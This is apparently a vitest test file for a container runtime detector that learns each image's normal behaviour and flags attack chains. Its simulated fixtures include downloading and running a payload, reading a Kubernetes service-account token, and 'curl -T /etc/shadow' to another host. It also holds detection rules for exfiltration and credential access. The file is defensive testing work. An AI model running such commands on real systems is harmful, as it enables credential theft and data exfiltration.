// What is learnt, what never is, and what a restart keeps.
import type { KernelEvent } from '@yagura/schema'
import { describe, expect, it } from 'vitest'
import { createDetector } from '../engine/detector.ts'
import { createCountingIds } from '../engine/recording.ts'
import { IMAGE, identityOf } from '../testing/identity.ts'
import { createWorld, rulesOf, ruleWhere, type World } from '../testing/world.ts'
import { argumentShape, shapeOf } from './shape.ts'
import { createSketch, rarity01 } from './sketch.ts'

const strong = ruleWhere(
  'strong',
  'strong',
  ['persistence'],
  (event) => event.type === 'exec' && event.exe.endsWith('/strong'),
)
const never = ruleWhere(
  'never',
  'strong',
  ['impact'],
  (event) => event.type === 'exec' && event.exe.endsWith('/never'),
  { learnable: false },
)
const rules = rulesOf(strong, never)

function open(world: World) {
  return [...world.told.incidents.values()].filter((one) => one.mergedInto === null)
}

function runs(
  world: World,
  count: number,
  prefix: string,
  work: (init: ReturnType<World['container']>) => void,
  more = {},
): number[] {
  const before: number[] = []
  for (let run = 0; run < count; run++) {
    const seen = open(world).length
    work(world.container(`${prefix}${run}`, '/app', more))
    world.wait(1500)
    world.end(`${prefix}${run}`)
    before.push(open(world).length - seen)
  }
  return before
}

describe('learning', () => {
  it('takes the exact edge as expected after three separate runs', () => {
    const world = createWorld(rules)
    expect(runs(world, 5, 'c', (init) => init.run('sh -c job').run('/opt/strong --full'))).toEqual([1, 1, 1, 0, 0])
    expect(runs(world, 1, 'd', (init) => init.run('sh -c job').run('/opt/strong --other'))).toEqual([1])
    expect(runs(world, 1, 'e', (init) => init.run('perl x').run('/opt/strong --full'))).toEqual([1])
    expect(runs(world, 1, 'f', (init) => init.run('sh -c another').run('/opt/strong --full'))).toEqual([1])
  })

  it('knows an image from one container that lives long, run by run of ten minutes', () => {
    const world = createWorld(rules)
    const init = world.container('c0', '/app')
    const learning = () => {
      init.run('sh -c job').run('/opt/strong --full')
      world.wait(60_000)
      return world.told.signals.at(-1)?.learning
    }
    const seen: unknown[] = []
    for (let round = 0; round < 6; round++) {
      seen.push(learning())
      world.wait(10 * 60_000)
    }
    expect(seen).toEqual([true, true, true, false, false, false])
    expect(world.told.signals.at(-1)?.grade).toBe('weak')
  })

  it('does not count a loop in one container as separate runs', () => {
    const world = createWorld(rules)
    const init = world.container('c0', '/app')
    for (let time = 0; time < 20; time++) init.run('sh -c job').run('/opt/strong --full')
    world.end('c0')
    expect(runs(world, 1, 'd', (next) => next.run('sh -c job').run('/opt/strong --full'))).toEqual([1])
  })

  it('never learns an attack that is repeated while it learns', () => {
    const world = createWorld(rules)
    const attack = (init: ReturnType<World['container']>) => {
      const job = init.run('sh -c job')
      job.run('/opt/fetch x').connect('10.88.0.1', 8000).write('/tmp/p', { inode: '99' }).exit()
      job.run('/tmp/p', { layer: 'upper', inode: '99' })
      job.run('/opt/strong --full')
    }
    expect(runs(world, 6, 'c', attack)).toEqual([1, 1, 1, 1, 1, 1])
    // and what the attack did besides is not expected either
    expect(runs(world, 1, 'd', (init) => init.run('sh -c job').run('/opt/strong --full'))).toEqual([1])
  })

  it('finds an attack in the middle of learning, learns the work beside it, and finds the attack again', () => {
    const world = createWorld(rules)
    const work = (init: ReturnType<World['container']>) => void init.run('sh -c job').run('/opt/strong --full')
    const attacked = (init: ReturnType<World['container']>) => {
      work(init)
      const job = init.run('sh -c job')
      job.run('/opt/fetch x').connect('10.88.0.1', 8000).write('/tmp/p', { inode: '99' }).exit()
      job.run('/tmp/p', { layer: 'upper', inode: '99' }).run('/opt/strong --other')
    }
    expect(runs(world, 1, 'a', work)).toEqual([1])
    expect(runs(world, 2, 'b', attacked)).toEqual([1, 1])
    expect(runs(world, 4, 'c', work)).toEqual([1, 1, 0, 0])
    expect(runs(world, 2, 'd', attacked)).toEqual([1, 1])
    const steps = open(world)
      .at(-1)
      ?.steps.map(({ rule }) => rule)
    expect(steps).toEqual(expect.arrayContaining(['behaviour.downloaded-program-run', 'strong']))
  })

  it('takes nothing for ordinary that was done in two of many runs, and does not forget the work for it', () => {
    const world = createWorld(rules)
    const work = (init: ReturnType<World['container']>) => void init.run('sh -c job').run('/opt/strong --full')
    const attacked = (init: ReturnType<World['container']>) => {
      work(init)
      // nothing came in for it that would guard the lineage: the image's own program does it
      init.run('sh -c job').run('/opt/strong --other')
    }
    expect(runs(world, 1, 'a', work)).toEqual([1])
    expect(runs(world, 2, 'b', attacked)).toEqual([1, 1])
    expect(runs(world, 4, 'c', work)).toEqual([0, 0, 0, 0])
    expect(runs(world, 1, 'd', attacked)).toEqual([1])
    world.restart()
    expect(runs(world, 1, 'e', work)).toEqual([0])
  })

  it('finds what an image was never seen to do, whatever it did three times before', () => {
    const world = createWorld(rules)
    runs(world, 6, 'a', (init) => init.run('sh -c job').run('/opt/strong --full'))
    const others: ((init: ReturnType<World['container']>) => unknown)[] = [
      (init) => init.run('sh -c job').run('/opt/strong --full --and-more'),
      (init) => init.run('python3 job.py').run('/opt/strong --full'),
      (init) => init.run('sh -c job').run('/tmp/strong --full', { layer: 'upper' }),
      (init) => init.run('/opt/strong --full'),
    ]
    for (const [index, other] of others.entries()) expect(runs(world, 1, `o${index}`, other)).toEqual([1])
  })

  it('learns from replicas that run at the same time as from one after the other', () => {
    const world = createWorld(rules)
    const work = (init: ReturnType<World['container']>) => void init.run('sh -c job').run('/opt/strong --full')
    const replicas = ['r1', 'r2', 'r3'].map((id) => world.container(id, '/app', { workload: 'shop/web' }))
    for (const replica of replicas) work(replica)
    world.wait(1500)
    for (const id of ['r1', 'r2', 'r3']) world.end(id)
    const seen = open(world).length
    work(world.container('r4', '/app', { workload: 'shop/web' }))
    world.wait(1500)
    expect(open(world)).toHaveLength(seen)
  })

  it('never learns in a session that somebody opened, nor what is never ordinary', () => {
    const world = createWorld(rules)
    let found = 0
    for (let run = 0; run < 5; run++) {
      world.container(`c${run}`, '/app')
      world.inject(`c${run}`, 'bash', { terminal: true, args: ['bash', `-${run}`] }).run('/opt/strong')
      world.wait(1500)
      world.end(`c${run}`)
      found++
      expect(open(world)).toHaveLength(found)
    }
    expect(runs(world, 5, 'n', (init) => init.run('/opt/never'))).toEqual([1, 1, 1, 1, 1])
  })

  it('knows what an image does without, once it is learnt', () => {
    const world = createWorld(rules)
    const build = (init: ReturnType<World['container']>) => {
      const job = init.run('make check').write('/src/t', { inode: '70' }).write('/src/t.sh', { inode: '71' })
      job.run('/src/t', { layer: 'upper', inode: '70' })
      job.run('sh /src/t.sh')
    }
    runs(world, 2, 'c', build)
    world.container('now', '/app')
    expect(world.detector.habitsOf('now')).toBeUndefined()
    runs(world, 1, 'd', build)
    expect(world.detector.habitsOf('now')).toEqual({ layers: ['upper'], scripts: true })
    const other = createWorld(rules)
    runs(other, 3, 'c', (init) => init.run('sh -c job'))
    other.restart()
    other.container('now', '/app')
    expect(other.detector.habitsOf('now')).toEqual({ layers: [], scripts: false })
  })

  it('hands on to the next digest what the last one taught', () => {
    const world = createWorld(rules)
    const work = (init: ReturnType<World['container']>) => init.run('sh -c job').run('/opt/strong --full')
    runs(world, 4, 'c', work)
    expect(runs(world, 2, 'd', work, { imageDigest: `sha256:${'2'.repeat(64)}` })).toEqual([0, 0])
    expect(
      runs(world, 1, 'e', work, { repository: 'registry.example/other', imageName: 'registry.example/other:1' }),
    ).toEqual([1])
  })

  it('learns what a person calls expected, and unlearns what he calls an attack', () => {
    const world = createWorld(rules)
    runs(world, 1, 'c', (init) => init.run('/opt/strong'))
    const [first] = open(world)
    if (first) world.detector.judge(first, 'benign-expected')
    expect(runs(world, 1, 'd', (init) => init.run('/opt/strong'))).toEqual([0])
    if (first) world.detector.judge(first, 'true-attack')
    expect(runs(world, 1, 'e', (init) => init.run('/opt/strong'))).toEqual([1])
  })

  it('waits a moment for the identity of a container, not for ever', () => {
    const world = createWorld(rules)
    const work = (init: ReturnType<World['container']>) => init.run('sh -c job').run('/opt/strong --full')
    runs(world, 3, 'c', work)
    const seen = open(world).length
    // the runtime answers after the first program has done its work
    work(world.container('late', '/app', {}, 100))
    world.wait(1000)
    expect(open(world)).toHaveLength(seen)
    work(world.container('never', '/app', {}, Number.POSITIVE_INFINITY))
    world.wait(1000)
    expect(open(world)).toHaveLength(seen + 1)
  })

  it('waits by its own time when it is behind with its events', () => {
    const world = createWorld(rules)
    const work = (init: ReturnType<World['container']>) => init.run('sh -c job').run('/opt/strong --full')
    runs(world, 3, 'c', work)
    const state = world.detector.snapshot()
    const before = world.events.length
    work(world.container('behind', '/app', {}, Number.POSITIVE_INFINITY))
    // another agent comes to these events seven seconds late, and asks the runtime only then
    const late = createDetector({ rules, hostKey: 'host:test', newId: createCountingIds(), state })
    const ownMs = world.nowMs() + 7000
    late.tick(ownMs)
    const told = world.events.slice(before).flatMap((event) => late.receive(event))
    told.push(...late.tick(ownMs + 100))
    expect(told).toEqual([])
    late.identify('behind', identityOf('behind', { commandLine: ['/app'] }))
    const known = late.tick(ownMs + 200).map((one) => (one.kind === 'signal' ? one.signal.grade : one.kind))
    expect(known).toEqual(['weak'])
  })

  it('takes a person at his word also where it would never learn by itself', () => {
    const world = createWorld(rules)
    runs(world, 1, 'c', (init) => init.run('/opt/never'))
    const [first] = open(world)
    if (first) world.detector.judge(first, 'false-alarm')
    world.restart()
    expect(runs(world, 2, 'd', (init) => init.run('/opt/never'))).toEqual([0, 0])
    expect(runs(world, 1, 'e', (init) => init.run('sh -c x').run('/opt/never'))).toEqual([1])
  })

  it('takes what all replicas do at once for a roll-out, and what one does alone for rarer', () => {
    const world = createWorld(rules)
    const rarities = (count: number, prefix: string) => {
      const before = world.told.signals.length
      const actors = [0, 1, 2].map((replica) =>
        world.container(`${prefix}${replica}`, '/app', { workload: `shop/${prefix}` }),
      )
      for (const actor of actors.slice(0, count)) actor.run('/opt/strong')
      return world.told.signals.slice(before).map((one) => one.rarity01)
    }
    const [alone = 0] = rarities(1, 'a')
    const all = rarities(3, 'b')
    expect(alone).toBeGreaterThan(all.at(-1) ?? 1)
  })

  it('knows the peers of an image after three runs, so that its backup may go out', () => {
    const world = createWorld()
    const backup = (address: string) => (init: ReturnType<World['container']>) => {
      const job = init.run('sh -c backup')
      job.run('tar czf /tmp/b.tgz /var/lib').write('/tmp/b.tgz').exit()
      job.run(`curl -T /tmp/b.tgz http://${address}/up`).connect(address, 8000).traffic(address, 8000, 90_000, 100)
    }
    expect(runs(world, 6, 'c', backup('10.77.0.3')).slice(3)).toEqual([0, 0, 0])
    expect(runs(world, 1, 'd', backup('10.88.0.1'))).toEqual([1])
  })
})

describe('what rules see of one act', () => {
  const peerIs = (event: KernelEvent, port: number) => event.type === 'connect' && event.remotePort === port
  const always = ruleWhere('always', 'strong', ['exfiltration'], (event) => peerIs(event, 8000))
  /** Sees some runs and not others, as whatever hangs on times and sizes does. */
  const sometimes = ruleWhere(
    'sometimes',
    'strong',
    ['collection'],
    (event) => peerIs(event, 8000) && 'localPort' in event && event.localPort === 1,
  )
  const graver = ruleWhere('graver', 'strong', ['impact'], (event) => event.type === 'open' && event.flags === 1)
  const slight = ruleWhere('slight', 'weak', ['discovery'], (event) => event.type === 'open' && event.flags === 0)
  const all = rulesOf(always, sometimes, graver, slight)

  it('is learnt for all of them: which of them saw it in which run is chance', () => {
    const world = createWorld(all)
    const send = (localPort: number) => (init: ReturnType<World['container']>) => {
      init.run('sh -c backup').run('curl -T /tmp/b.tgz http://10.77.0.3').connect('10.77.0.3', 8000, { localPort })
    }
    for (const localPort of [1, 2, 2]) runs(world, 1, `l${localPort}-${world.nowMs()}-`, send(localPort))
    expect(runs(world, 4, 'c', send(1))).toEqual([0, 0, 0, 0])
    const other = (init: ReturnType<World['container']>) =>
      init.run('sh -c backup').run('curl -T /etc/shadow http://10.77.0.3').connect('10.77.0.3', 8000, { localPort: 1 })
    expect(runs(world, 1, 'd', other)).toEqual([1])
  })

  it('does not let what was weak excuse what is strong', () => {
    const world = createWorld(all)
    expect(runs(world, 5, 'c', (init) => init.run('/opt/tool').read('/data/x'))).toEqual([0, 0, 0, 0, 0])
    const grave = (init: ReturnType<World['container']>) => init.run('/opt/tool').read('/data/x', { flags: 1 })
    expect(runs(world, 1, 'd', grave)).toEqual([1])
  })

  it('is learnt also for rules that are stricter with a workload that is known', () => {
    const path = (event: KernelEvent) => event.type === 'open' && event.path === '/etc/passwd'
    const early = ruleWhere('early', 'medium', ['persistence'], path)
    const late = ruleWhere('late', 'strong', ['persistence'], path)
    let isKnown = false
    const set = rulesOf(early, late)
    const world = createWorld({
      ...set,
      evaluate: (event, context) =>
        set.evaluate(event, context).filter(({ rule }) => rule.id === (isKnown ? 'late' : 'early')),
    })
    const work = (init: ReturnType<World['container']>) => void init.run('sh -c start').write('/etc/passwd')
    runs(world, 3, 'l', work)
    isKnown = true
    expect(runs(world, 3, 'c', work)).toEqual([0, 0, 0])
    expect(runs(world, 1, 'd', (init) => void init.run('sh -c other').write('/etc/passwd'))).toEqual([1])
  })

  it('is learnt of a download from the usual place, unless something strong came of it', () => {
    const fetched = ruleWhere('fetched', 'medium', ['command-and-control'], (event) => peerIs(event, 8000))
    const fetch = (init: ReturnType<World['container']>) => {
      const job = init.run('sh -c job')
      job.run('/opt/fetch -o /tmp/d').connect('10.77.0.3', 8000).write('/tmp/d', { inode: '99' }).exit()
      return job
    }
    const world = createWorld(rulesOf(fetched))
    runs(world, 3, 'l', fetch)
    world.told.findings.splice(0)
    runs(world, 3, 'c', fetch)
    expect(world.told.findings).toEqual([])
    const other = createWorld(rulesOf(fetched))
    runs(other, 5, 'l', (init) => fetch(init).run('/tmp/d', { layer: 'upper', inode: '99' }))
    expect(other.told.findings.filter(({ rule }) => rule === 'fetched')).toHaveLength(5)
  })

  it('is the same in every replica, whatever it is called', () => {
    const world = createWorld(rules)
    const work = (init: ReturnType<World['container']>) =>
      init.run(`sh -c job`).run(`/opt/strong --name shop-${init.containerId} /tmp/run.${init.containerId}/x`)
    expect(runs(world, 5, 'abcdef-', work)).toEqual([1, 1, 1, 0, 0])
  })
})

describe('restarts', () => {
  it('lose no campaign: twenty of them, each between two steps', () => {
    for (let cut = 0; cut < 20; cut++) {
      const world = createWorld(rules)
      const init = world.container('c1', '/app')
      const job = init.run('sh -c job')
      const steps: (() => void)[] = [
        () => void job.run('/opt/fetch x').connect('10.88.0.1', 8000).write('/tmp/p', { inode: '99' }).exit(),
        () => void job.run('chmod x').exit(),
        () => void job.run('/tmp/p', { layer: 'upper', inode: '99' }),
        () => void job.run('/opt/strong'),
        () => world.wait(1500),
        () => void job.run('cat t').read('/var/run/secrets/kubernetes.io/serviceaccount/token').exit(),
        () => void job.run('curl x').connect('10.88.0.1', 6443),
        () => void job.run('/opt/never'),
      ]
      for (const [index, step] of steps.entries()) {
        if (index === cut % steps.length || cut >= steps.length) world.restart()
        step()
      }
      world.wait(2000)
      const found = open(world)
      expect(found).toHaveLength(1)
      const told = found[0]?.steps.map((one) => one.rule) ?? []
      const wanted = ['behaviour.downloaded-program-run', 'strong', 'behaviour.service-account-token-used', 'never']
      expect(told.filter((rule) => wanted.includes(rule))).toEqual(wanted)
    }
  })

  it('keep what was learnt, and start anew from what is no snapshot', () => {
    const world = createWorld(rules)
    const work = (init: ReturnType<World['container']>) => init.run('sh -c job').run('/opt/strong --full')
    runs(world, 3, 'c', work)
    const bytes = world.detector.snapshot()
    world.restart()
    expect(runs(world, 2, 'd', work)).toEqual([0, 0])
    expect(bytes.length).toBeLessThan(1024 * 1024)
    const flipped = bytes.map((byte, at) => (at === bytes.length - 9 ? byte ^ 1 : byte))
    for (const state of [new Uint8Array(), bytes.subarray(0, 100), bytes.subarray(0, bytes.length - 1), flipped]) {
      const fresh = createDetector({ rules, hostKey: 'host:test', newId: createCountingIds(), state })
      expect(fresh.stats()).toMatchObject({ profiles: 0, chains: 0, processes: 0 })
    }
  })
})

describe('shapes', () => {
  it('drop what changes from run to run and keep what somebody chose', () => {
    expect(shapeOf('/tmp/tmp.Xa9bQz/x')).toBe(shapeOf('/tmp/tmp.Kk2LmP/x'))
    expect(shapeOf('--since=2026-01-02')).toBe(shapeOf('--since=2027-11-12'))
    expect(shapeOf('Bearer eyJhbGciOiJ.abc.def')).toBe('Bearer *')
    expect(shapeOf('/etc/shadow')).toBe('/etc/shadow')
    expect(argumentShape(['a', 'x1'])).toBe(argumentShape(['b', 'x2']))
    expect(argumentShape(['a', 'x'])).not.toBe(argumentShape(['a', 'y']))
  })
})

describe('rarity', () => {
  it('is never estimated too rare, and falls with use', () => {
    const sketch = createSketch()
    for (let key = 0; key < 2000; key++) for (let time = 0; time <= key % 5; time++) sketch.add(key, 1)
    for (let key = 0; key < 2000; key++) expect(sketch.estimate(key)).toBeGreaterThanOrEqual((key % 5) + 1)
    expect(rarity01(0, 100)).toBe(1)
    expect(rarity01(100, 100)).toBe(0)
    expect(rarity01(3, 2)).toBe(0.6)
    expect(IMAGE).toContain('/')
  })
})

describe('work that looks like two or three stages', () => {
  it('is learnt, and a campaign of five is not', () => {
    const step = (name: string, tactic: Parameters<typeof ruleWhere>[2][number]) =>
      ruleWhere(name, 'strong', [tactic], (event) => event.type === 'exec' && event.exe.endsWith(`/${name}`))
    const all = rulesOf(
      step('pack', 'collection'),
      step('send', 'exfiltration'),
      step('plant', 'persistence'),
      step('steal', 'credential-access'),
      step('wreck', 'impact'),
    )
    const doing =
      (...names: string[]) =>
      (init: ReturnType<World['container']>) => {
        for (const name of names) init.run('sh -c job').run(`/opt/${name}`)
      }
    expect(runs(createWorld(all), 5, 'c', doing('pack', 'send'))).toEqual([1, 1, 1, 0, 0])
    expect(runs(createWorld(all), 5, 'c', doing('pack', 'send', 'plant', 'steal', 'wreck'))).toEqual([1, 1, 1, 1, 1])
  })
})
